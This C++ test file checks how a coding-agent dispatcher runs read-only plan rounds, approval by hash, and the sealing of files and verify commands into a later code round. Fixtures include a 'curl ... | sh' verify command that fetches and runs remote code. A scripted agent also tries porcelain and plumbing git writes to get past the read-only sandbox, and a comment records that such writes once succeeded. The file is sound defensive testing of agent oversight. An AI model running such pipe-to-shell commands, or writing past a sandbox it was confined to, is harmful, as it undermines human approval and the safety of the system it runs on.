// Plans first (docs/review.md, "Plans"): a plan round runs the agent in a read-only worktree
// and reads its answer as a plan; a person approves it (naming its hash), revises it or
// rejects it; the approval seals the plan's files and allowed verify commands into the code
// round, which is judged against them. From the terminal, and on the loopback GitHub through
// the events the action and serve read (`continue --event`, `plan --event`).

#include "dispatch_fixture.h"
#include "fake_github.h"
#include "plan_agent.h"
#include "proc/sandbox.h"
#include "webhook_examples.h"

namespace cocode::test {

class Plans : public DispatchRun {
  protected:
    // plan-agent.sh and its rules (plan_agent.h), with `extra` over them.
    void configure_plans(json extra = json::object()) {
        json config = plan_agent_config();
        config.update(extra);
        configure(config);
    }

    void set_issue_body(int n, const std::string& body) {
        json issue =
            json::parse(read_text(repo_ / ".cocode/issues" / (std::to_string(n) + ".json")));
        issue["body"] = body;
        write_text(repo_ / ".cocode/issues" / (std::to_string(n) + ".json"), issue.dump());
        sh_ok("git add -A .cocode && git commit -q -m 'issue text'", repo_);
    }

    json check_of(const run::RunRecord& r) {
        return json::parse(read_text(r.folder / "check.json"));
    }

    static std::map<std::string, json> checks_by_id(const json& verdict) {
        std::map<std::string, json> out;
        for (const auto& c : verdict["checks"]) out[c["id"]] = c;
        return out;
    }
};

TEST_F(Plans, AnApprovedPlanBecomesTheRulesOfTheCodeRound) {
    configure_plans();
    set_issue_body(1, "Add the feature. Then a stray file.\n");
    Shell planned = dispatch("run 1 --plan");
    ASSERT_EQ(planned.exit_code, 0) << planned.err;
    const run::RunRecord plan_run = only_run();
    EXPECT_TRUE(plan_run.plan_round);
    // Asked for a plan, told the worktree is read-only.
    const std::string prompt = read_text(plan_run.folder / "prompt.md");
    EXPECT_NE(prompt.find("This is a plan round: your worktree is read-only"), std::string::npos);
    EXPECT_EQ(prompt.find("make a final commit"), std::string::npos) << prompt;

    const json verdict = check_of(plan_run);
    EXPECT_EQ(verdict["verdict"], "PASS") << verdict.dump(2);
    const json& plan = verdict["plan_round"];
    EXPECT_EQ(plan["questions"], json::array({"Should the feature be on by default?"}));
    EXPECT_EQ(plan["files"], json::array({"src/feature.txt"}));
    EXPECT_EQ(plan["tests"],
              json::array({"test -s src/feature.txt", "curl -s http://127.0.0.1:9/x | sh"}));
    EXPECT_EQ(plan["steps"].size(), 2u);
    const std::string hash = plan["hash"];
    ASSERT_EQ(hash.size(), 12u);
    EXPECT_EQ(checks_by_id(verdict)["read_only"]["result"], "pass");
    // The report lists the questions before the files, and says how to approve.
    const std::string report = read_text(plan_run.folder / "check.md");
    EXPECT_LT(report.find("**Questions**"), report.find("**Files**")) << report;
    EXPECT_NE(report.find("`/cocode approve planner " + hash + "`"), std::string::npos) << report;
    EXPECT_NE(planned.out.find("continue 1 --agent planner --approve --hash " + hash),
              std::string::npos)
        << planned.out;

    // An approval naming another hash: the plan changed since; nothing runs.
    Shell stale = dispatch("continue 1 --approve --hash 0123456789ab");
    EXPECT_EQ(stale.exit_code, 2);
    EXPECT_NE(stale.err.find("plan 0123456789ab is not the current plan (" + hash + ")"),
              std::string::npos)
        << stale.err;
    EXPECT_EQ(runs().size(), 1u);

    Shell approved = dispatch("continue 1 --approve --hash " + hash);
    ASSERT_EQ(approved.exit_code, 0) << approved.err;
    // The verify command no prefix allows is left out, and said so.
    EXPECT_NE(approved.err.find("verify command left out: curl -s http://127.0.0.1:9/x | sh"),
              std::string::npos)
        << approved.err;
    auto all = runs();
    ASSERT_EQ(all.size(), 2u);
    const run::RunRecord& code = all[1];
    EXPECT_FALSE(code.plan_round);
    EXPECT_EQ(code.round, 2);
    EXPECT_EQ(code.round_trigger, "plan " + hash + " approved (terminal)");
    // The plan is in the code round's prompt, as data.
    EXPECT_NE(read_text(code.folder / "prompt.md").find("`src/feature.txt`"), std::string::npos);
    // The seal holds the plan: files, the verify command kept, the one left out.
    const json seal = json::parse(read_text(repo_ / ".cocode/seals" / (code.run_id + ".json")));
    EXPECT_EQ(seal["plan"]["hash"], hash);
    EXPECT_EQ(seal["plan"]["files"], json::array({"src/feature.txt"}));
    EXPECT_EQ(seal["plan"]["verify"], json::array({"test -s src/feature.txt"}));
    ASSERT_EQ(seal["plan"]["left_out"].size(), 1u);

    // The agent also wrote src/extra.txt: inside the configured src/**, outside the plan.
    const json judged = check_of(code);
    EXPECT_EQ(judged["verdict"], "FAIL") << judged.dump(2);
    auto checks = checks_by_id(judged);
    EXPECT_EQ(checks["scope"]["result"], "pass");
    EXPECT_EQ(checks["plan"]["result"], "fail");
    EXPECT_EQ(checks["plan"]["files"], json::array({"src/extra.txt"}));
    EXPECT_NE(checks["plan"]["reason"].get<std::string>().find("src/extra.txt"), std::string::npos);
    EXPECT_EQ(judged["plan"]["verify"], json::array({"test -s src/feature.txt"}));
    const std::string code_report = read_text(code.folder / "check.md");
    EXPECT_NE(code_report.find("**Rules from the approved plan** `" + hash + "`"),
              std::string::npos)
        << code_report;
    EXPECT_NE(code_report.find("left out of verify: `curl -s http://127.0.0.1:9/x | sh"),
              std::string::npos);
    EXPECT_NE(code_report.find("- round 1 · issue #1 · plan"), std::string::npos) << code_report;

    // The plan is spent: nothing more to approve.
    Shell again = dispatch("continue 1 --approve --hash " + hash);
    EXPECT_EQ(again.exit_code, 2);
    EXPECT_NE(again.err.find("no agent has a plan"), std::string::npos) << again.err;
}

TEST_F(Plans, WithinThePlanTheCodeRoundPassesAndItsVerifyCommandRuns) {
    configure_plans();
    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
    const std::string hash = check_of(only_run())["plan_round"]["hash"];
    Shell approved = dispatch("continue 1 --agent planner --approve --hash " + hash);
    ASSERT_EQ(approved.exit_code, 0) << approved.err;
    const json judged = check_of(runs()[1]);
    EXPECT_EQ(judged["verdict"], "PASS") << judged.dump(2);
    bool plan_verify = false;
    for (const auto& c : judged["checks"])
        if (c["name"] == "verify: test -s src/feature.txt (plan)")
            plan_verify = c["result"] == "pass";
    EXPECT_TRUE(plan_verify) << judged.dump(2);
}

TEST_F(Plans, ARevisionPlansAgainWithTheWordsAndARejectionStopsApproval) {
    configure_plans();
    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
    const std::string first = check_of(only_run())["plan_round"]["hash"];
    EXPECT_EQ(dispatch("continue 1 --revise").exit_code, 2);  // what to change is needed
    Shell revised = dispatch("continue 1 --revise -m 'Yes, on by default.'");
    ASSERT_EQ(revised.exit_code, 0) << revised.err;
    auto all = runs();
    ASSERT_EQ(all.size(), 2u);
    EXPECT_TRUE(all[1].plan_round);
    EXPECT_EQ(all[1].round_trigger, "plan revised (terminal)");
    EXPECT_NE(read_text(all[1].folder / "prompt.md").find("Yes, on by default."),
              std::string::npos);
    const json plan = check_of(all[1])["plan_round"];
    EXPECT_EQ(plan["questions"], json::array({"none: answered (Yes, on by default. )"}));
    EXPECT_NE(plan["hash"], first);
    // The first plan is no longer the one to approve.
    Shell stale = dispatch("continue 1 --approve --hash " + first);
    EXPECT_EQ(stale.exit_code, 2);

    Shell rejected = dispatch("continue 1 --reject");
    ASSERT_EQ(rejected.exit_code, 0) << rejected.err;
    EXPECT_EQ(check_of(runs()[1])["plan_round"]["rejected_by"], "terminal");
    Shell after = dispatch("continue 1 --approve");
    EXPECT_EQ(after.exit_code, 2);
    EXPECT_NE(after.err.find("was rejected (terminal)"), std::string::npos) << after.err;
    EXPECT_EQ(runs().size(), 2u);
}

// The worktree is read-only in the sandbox: the agent's write is refused and nothing lands.
// Without the sandbox a write lands, and the plan round fails naming it.
TEST_F(Plans, APlanRoundThatWritesIsRefusedByTheSandboxOrFails) {
    configure_plans();
    set_issue_body(1, "Add the feature, but try to write first.\n");
    if (probe_sandbox().available) {
        Shell sandboxed = dispatch("run 1 --plan");
        ASSERT_EQ(sandboxed.exit_code, 0) << sandboxed.err;
        const run::RunRecord& r = only_run();
        EXPECT_EQ(read_text(r.folder / "agent-stderr.txt"), "could not write src/sneaky.txt\n");
        EXPECT_FALSE(fs::exists(r.worktree / "src/sneaky.txt"));
        EXPECT_EQ(checks_by_id(check_of(r))["read_only"]["result"], "pass");
        sh_ok(
            "rm -rf .cocode/runs .cocode/seals && rm -rf "
            ".cocode/worktrees/1-planner && git branch -D cocode/1-planner",
            repo_);
    }
    Shell open = dispatch("run 1 --plan --sandbox none");
    ASSERT_EQ(open.exit_code, 0) << open.err;
    const run::RunRecord& r = only_run();
    EXPECT_TRUE(fs::exists(r.worktree / "src/sneaky.txt"));
    const json verdict = check_of(r);
    EXPECT_EQ(verdict["verdict"], "FAIL");
    const auto checks = checks_by_id(verdict);
    EXPECT_EQ(checks.at("read_only")["result"], "fail");
    // A new folder is named as git status names it: the folder the file is in.
    EXPECT_EQ(checks.at("read_only")["files"], json::array({"src/"}));
    // Nothing to approve.
    Shell approve = dispatch("continue 1 --approve");
    EXPECT_EQ(approve.exit_code, 2);
    EXPECT_NE(approve.err.find("has no plan to approve"), std::string::npos) << approve.err;
}

// A plan round's agent tries every way a commit is written — porcelain, and plumbing: an
// object, a ref, HEAD, the index, a reflog — in its own repository, which stayed writable in a
// plan round: the commit landed on its branch and READY was recorded. Each is refused now, and
// its branch stands where the round began.
TEST_F(Plans, APlanRoundCommitsNothingByPorcelainOrPlumbing) {
    if (!probe_sandbox().available) {
        ASSERT_EQ(std::getenv("COCODE_FULL_RUN"), nullptr) << probe_sandbox().why_not;
        GTEST_SKIP() << "no sandbox here: " << probe_sandbox().why_not;
    }
    const fs::path agent = dir_ / "sneaky-planner.sh";
    write_text(
        agent,
        "#!/bin/sh\n"
        "out=\"$JRUN_RUN_FOLDER/tried\"\n"
        "try() { name=$1; shift; if \"$@\" > /dev/null 2>&1; then echo \"$name: wrote\"; "
        "else echo \"$name: refused\"; fi >> \"$out\"; }\n"
        "try commit git commit -q --allow-empty -m sneaky -m \"$COCODE_READY_MARKER\"\n"
        "try object sh -c 'echo sneaky | git hash-object -w --stdin'\n"
        "try commit-tree sh -c 'git commit-tree -m sneaky \"$(git rev-parse HEAD^{tree})\"'\n"
        "try ref git update-ref refs/heads/sneaky HEAD\n"
        "try branch git update-ref \"refs/heads/$(git branch --show-current)\" HEAD\n"
        "try head git symbolic-ref HEAD refs/heads/elsewhere\n"
        "try index git update-index --add --cacheinfo "
        "100644,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,sneaky.txt\n"
        "try reflog sh -c 'echo sneaky >> \"$(git rev-parse --git-dir)/logs/HEAD\"'\n"
        "echo 'Nothing to plan yet.'\n");
    fs::permissions(agent, fs::perms::owner_all, fs::perm_options::add);
    json config = plan_agent_config();
    config["agents"] = {{"planner", {{"command", agent.string()}}}};
    configure(config);
    const std::string base = sh_ok("git rev-parse HEAD", repo_).substr(0, 40);
    Shell run = dispatch("run 1 --plan");
    ASSERT_EQ(run.exit_code, 0) << run.err;
    const run::RunRecord& r = only_run();
    const std::string tried = read_text(r.folder / "tried");
    EXPECT_EQ(tried.find("wrote"), std::string::npos) << tried;
    EXPECT_EQ(std::count(tried.begin(), tried.end(), '\n'), 8) << tried;
    EXPECT_EQ(sh_ok("git rev-parse cocode/1-planner", repo_).substr(0, 40), base);
    EXPECT_NE(sh("git rev-parse --verify --quiet refs/heads/sneaky", repo_).exit_code, 0);
    EXPECT_EQ(read_text(repo_ / ".cocode/runs/events.jsonl").find("READY"), std::string::npos);
}

// An answer that is not a plan is shown as written, with why, and counts as no plan.
TEST_F(Plans, AnAnswerThatIsNotAPlanIsShownWithWhyAndCountsAsNone) {
    const std::string script = (dir_ / "no-plan.sh").string();
    write_text(script, "#!/bin/sh\necho 'I would just do it.'\n");
    fs::permissions(script, fs::perms::owner_all);
    configure({{"agents", {{"vague", {{"command", script}}}}}});
    ASSERT_EQ(dispatch("run 1 --plan").exit_code, 0);
    const run::RunRecord& r = only_run();
    const json verdict = check_of(r);
    EXPECT_EQ(verdict["verdict"], "FAIL");
    EXPECT_EQ(verdict["plan_round"]["text"], "I would just do it.\n");
    EXPECT_NE(verdict["plan_round"]["why_not"].get<std::string>().find("no files"),
              std::string::npos);
    const std::string report = read_text(r.folder / "check.md");
    EXPECT_NE(report.find("I would just do it."), std::string::npos) << report;
    EXPECT_NE(report.find("Nothing to approve"), std::string::npos) << report;
}

}  // namespace cocode::test

namespace cocode::test {

// On the loopback GitHub: the plan is posted on the issue (one comment per agent, questions
// first), and the commands in issue comments are decided as the action's `continue --event`
// and serve decide them.
class PlansOnGitHub : public Plans {
  protected:
    void SetUp() override {
        Plans::SetUp();
        server_.add_issue(1, "Issue 1", "Add the feature. Then a stray file.\n", {"cocode"});
        server_.set_permission("writer", "write", "write");
        server_.set_permission("reader", "read", "read");
        sh_ok("git init -q --bare ../origin.git && git remote add origin " +
                  quote((dir_ / "origin.git").string()),
              repo_);
        github_ = " --repo octo-org/demo --api-url " + server_.base_url() + " --ca-bundle " +
                  quote(loopback_tls().files.certificate.string());
        configure_plans({{"publish", {{"push", true}, {"pull_request", true}}}});
        sh_ok("git push -q origin main", repo_);
    }

    Shell on_github(const std::string& args, const fs::path& where = {}) {
        return sh(env_ + quote(tool_path("cocode-dispatch").string()) + " " + args + github_,
                  where.empty() ? repo_ : where);
    }

    // An issue comment by `login`, as GitHub delivers it; the comment is on the issue too.
    json comment_event(const std::string& body, const std::string& login,
                       const std::string& type = "User") {
        json payload = example_payload("issue_comment", "created");
        payload["repository"]["full_name"] = "octo-org/demo";
        payload["issue"]["number"] = 1;
        payload["issue"].erase("pull_request");
        payload["comment"]["id"] = server_.add_comment(1, body, login);
        payload["comment"]["body"] = body;
        payload["comment"]["user"]["login"] = login;
        payload["comment"]["user"]["type"] = type;
        return payload;
    }

    // `continue --event` on the payload, publishing, as the action runs it.
    Shell deliver(const json& payload, const fs::path& where = {}) {
        write_text(dir_ / "event.json", payload.dump());
        return sh(env_ + "GITHUB_EVENT_NAME=issue_comment " +
                      quote(tool_path("cocode-dispatch").string()) +
                      " continue --publish --event " + quote((dir_ / "event.json").string()) +
                      github_,
                  where.empty() ? repo_ : where);
    }

    std::vector<json> pair_comments() {
        std::vector<json> out;
        for (const auto& c : server_.comments_of(1))
            if (c["body"].get<std::string>().rfind("<!-- cocode:check/issue-1/planner", 0) == 0)
                out.push_back(c);
        return out;
    }
    std::vector<json> refusals() {
        std::vector<json> out;
        for (const auto& c : server_.comments_of(1))
            if (c["body"].get<std::string>().find("<!-- cocode:refused/") != std::string::npos)
                out.push_back(c);
        return out;
    }

    FakeGitHub server_{loopback_options()};
    std::string github_;
    const std::string env_ = "GITHUB_TOKEN=" + std::string(kTestToken) + " ";
};

TEST_F(PlansOnGitHub, TheIssueGetsThePlanAndOnlyAWritersApprovalOfItsHashStartsTheCode) {
    Shell planned = on_github("run 1 --plan --publish --requested-by @asker");
    ASSERT_EQ(planned.exit_code, 0) << planned.err;
    auto posted = pair_comments();
    ASSERT_EQ(posted.size(), 1u);
    const std::string plan_body = posted[0]["body"];
    EXPECT_NE(plan_body.find("📝 PLAN · cocode plan · `planner` on #1"), std::string::npos)
        << plan_body;
    EXPECT_LT(plan_body.find("**Questions**"), plan_body.find("**Files**"));
    // A plan wrote nothing: no status, no branch pushed, no pull request, no verdict label.
    EXPECT_TRUE(server_.statuses().empty());
    EXPECT_TRUE(server_.pulls().empty());
    EXPECT_EQ(server_.labels_of(1), std::vector<std::string>{"cocode"});
    const std::string hash = check_of(only_run())["plan_round"]["hash"];
    // The live comment shows a plan, not a PASS, and compares nothing.
    std::string live;
    for (const auto& c : server_.comments_of(1))
        if (c["body"].get<std::string>().rfind("<!-- cocode:progress/issue-1", 0) == 0)
            live = c["body"];
    EXPECT_NE(live.find("📝 PLAN"), std::string::npos) << live;
    EXPECT_NE(live.find("approves one by its hash"), std::string::npos) << live;
    EXPECT_EQ(live.find("Best:"), std::string::npos) << live;

    // What does nothing: a reader (one reply), a bot (none), a stale hash and no hash (one
    // reply each, naming what is wrong).
    Shell reader = deliver(comment_event("/cocode approve planner " + hash, "reader"));
    EXPECT_EQ(reader.exit_code, 0) << reader.err;
    EXPECT_EQ(refusals().size(), 1u);
    Shell bot = deliver(comment_event("/cocode approve planner " + hash, "helper[bot]", "Bot"));
    EXPECT_EQ(bot.exit_code, 0) << bot.err;
    EXPECT_EQ(refusals().size(), 1u);
    Shell stale = deliver(comment_event("/cocode approve planner 0123456789ab", "writer"));
    EXPECT_EQ(stale.exit_code, 2) << stale.err;
    ASSERT_EQ(refusals().size(), 2u);
    EXPECT_NE(refusals()[1]["body"].get<std::string>().find(
                  "@writer cocode did nothing: planner: plan 0123456789ab is not the current plan"),
              std::string::npos)
        << refusals()[1]["body"];
    Shell unnamed = deliver(comment_event("/cocode approve", "writer"));
    EXPECT_EQ(unnamed.exit_code, 0) << unnamed.err;
    ASSERT_EQ(refusals().size(), 3u);
    EXPECT_NE(
        refusals()[2]["body"].get<std::string>().find("name the plan you approve by its hash"),
        std::string::npos);
    EXPECT_EQ(runs().size(), 1u);

    // A writer approves the plan: the code round runs, held to it, and publishes on the same
    // comment.
    const json approval = comment_event("/cocode approve " + hash + "\nLooks right.", "writer");
    Shell approved = deliver(approval);
    ASSERT_EQ(approved.exit_code, 0) << approved.err;
    auto all = runs();
    ASSERT_EQ(all.size(), 2u);
    EXPECT_EQ(all[1].round_trigger, "plan " + hash + " approved (@writer)");
    posted = pair_comments();
    ASSERT_EQ(posted.size(), 1u);
    const std::string verdict_body = posted[0]["body"];
    EXPECT_NE(verdict_body.find("❌ FAIL"), std::string::npos) << verdict_body;
    EXPECT_NE(verdict_body.find("outside the approved plan " + hash + ": src/extra.txt"),
              std::string::npos)
        << verdict_body;
    EXPECT_NE(verdict_body.find("**Rules from the approved plan** `" + hash + "` (@writer)"),
              std::string::npos);
    ASSERT_EQ(server_.statuses().size(), 1u);
    EXPECT_EQ(server_.statuses()[0]["state"], "failure");
    int eyes = 0;
    for (const auto& r : server_.reactions()) eyes += r["content"] == "eyes";
    // 👀 on what a writer said in full (the stale approval too, then answered why it did
    // nothing); none on what was refused before it was taken.
    EXPECT_EQ(eyes, 2);
    // The requester is sealed with every round.
    EXPECT_EQ(check_of(all[1])["requested_by"], "@asker");

    // The same delivery again (GitHub redelivers): nothing runs again.
    Shell again = deliver(approval);
    EXPECT_EQ(runs().size(), 2u) << again.err;
    EXPECT_NE(again.err.find("carried out already"), std::string::npos) << again.err;
}

TEST_F(PlansOnGitHub, AWritersWordsBeforeReviseMakeTheNextPlan) {
    ASSERT_EQ(on_github("run 1 --plan --publish").exit_code, 0);
    Shell revised =
        deliver(comment_event("Yes: on by default.\nKeep it small.\n\n/cocode revise", "writer"));
    ASSERT_EQ(revised.exit_code, 0) << revised.err;
    auto all = runs();
    ASSERT_EQ(all.size(), 2u);
    EXPECT_TRUE(all[1].plan_round);
    EXPECT_EQ(all[1].round_trigger, "plan revised (@writer)");
    const std::string prompt = read_text(all[1].folder / "prompt.md");
    EXPECT_NE(prompt.find("Yes: on by default.\nKeep it small."), std::string::npos) << prompt;
    EXPECT_EQ(pair_comments().size(), 1u);  // the plan's comment, updated
    EXPECT_NE(pair_comments()[0]["body"].get<std::string>().find("none: answered"),
              std::string::npos);
    Shell rejected = deliver(comment_event("/cocode reject", "writer"));
    ASSERT_EQ(rejected.exit_code, 0) << rejected.err;
    EXPECT_NE(pair_comments()[0]["body"].get<std::string>().find("**Rejected** (@writer)"),
              std::string::npos)
        << pair_comments()[0]["body"];
}

// The action's runner is a fresh clone: the plan is restored from its published comment,
// and the code round makes the branch on the sealed base.
TEST_F(PlansOnGitHub, APlanPublishedElsewhereIsApprovedOnAFreshClone) {
    ASSERT_EQ(on_github("run 1 --plan --publish").exit_code, 0);
    const std::string hash = check_of(only_run())["plan_round"]["hash"];
    sh_ok(
        "git clone -q -b main origin.git fresh && cd fresh && git config user.name 'cocode agent' "
        "&& "
        "git config user.email agent@cocode.invalid",
        dir_.path());
    const fs::path fresh = dir_ / "fresh";
    Shell approved = deliver(comment_event("/cocode approve planner " + hash, "writer"), fresh);
    ASSERT_EQ(approved.exit_code, 0) << approved.err;
    EXPECT_NE(approved.err.find("restored from the published plan"), std::string::npos)
        << approved.err;
    const auto there = run::list_runs(fresh / ".cocode/runs").runs;
    ASSERT_EQ(there.size(), 2u);
    EXPECT_TRUE(there[0].plan_round);
    const json judged = json::parse(read_text(there[1].folder / "check.json"));
    EXPECT_EQ(judged["plan"]["hash"], hash);
    EXPECT_EQ(judged["base"], only_run().base_commit);
    EXPECT_EQ(pair_comments().size(), 1u);
}

}  // namespace cocode::test
